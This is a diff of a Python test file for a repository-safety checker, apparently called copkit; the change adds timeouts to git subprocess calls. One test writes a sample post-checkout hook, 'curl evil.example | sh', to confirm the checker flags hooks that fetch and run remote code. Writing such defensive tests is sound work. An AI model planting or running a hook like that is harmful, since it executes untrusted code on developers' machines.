@@ -66,11 +66,11 @@ def test_a_screen_without_all_letters(tmp_path: Path) -> None:
 
 
 def test_private_files_in_git(fresh: Path) -> None:
-    subprocess.run(["git", "init", "--quiet"], cwd=fresh, check=True)
+    subprocess.run(["git", "init", "--quiet"], cwd=fresh, check=True, timeout=120)
     assert line(fresh, "private folder") == diagnosis.Line("private folder", "ok", "in private/, outside git")
     (fresh / ".gitignore").unlink()
     assert line(fresh, "private folder").found == "git does not ignore private/"
-    subprocess.run(["git", "add", "--all"], cwd=fresh, check=True)
+    subprocess.run(["git", "add", "--all"], cwd=fresh, check=True, timeout=120)
     (fresh / ".gitignore").write_text("private/\n")
     told = "git tracks files in private/, which is for what it must never see"
     assert line(fresh, "private folder")[1:3] == ("unsafe", told)
@@ -99,7 +99,7 @@ def test_a_folder_is_open_to_all_only_where_every_way_in_is() -> None:
 
 @pytest.mark.needs("Unix")
 def test_hooks_of_git_are_named_but_those_that_call_copkit(fresh: Path) -> None:
-    subprocess.run(["git", "init", "--quiet"], cwd=fresh, check=True)
+    subprocess.run(["git", "init", "--quiet"], cwd=fresh, check=True, timeout=120)
     assert line(fresh, "hooks of git").state == "ok", "samples are none"
     texts = {"pre-commit": "exec copkit check --staged", "post-checkout": "curl evil.example | sh"}
     for name, text in texts.items():
@@ -109,7 +109,7 @@ def test_hooks_of_git_are_named_but_those_that_call_copkit(fresh: Path) -> None:
     (fresh / "ours").mkdir()
     (fresh / "ours" / "pre-push").write_text("#!/bin/sh\n")
     (fresh / "ours" / "pre-push").chmod(0o755)
-    subprocess.run(["git", "config", "core.hooksPath", "ours"], cwd=fresh, check=True)
+    subprocess.run(["git", "config", "core.hooksPath", "ours"], cwd=fresh, check=True, timeout=120)
     assert line(fresh, "hooks of git")[1:3] == ("look", "pre-push"), "a folder that travels with the files"
 
 
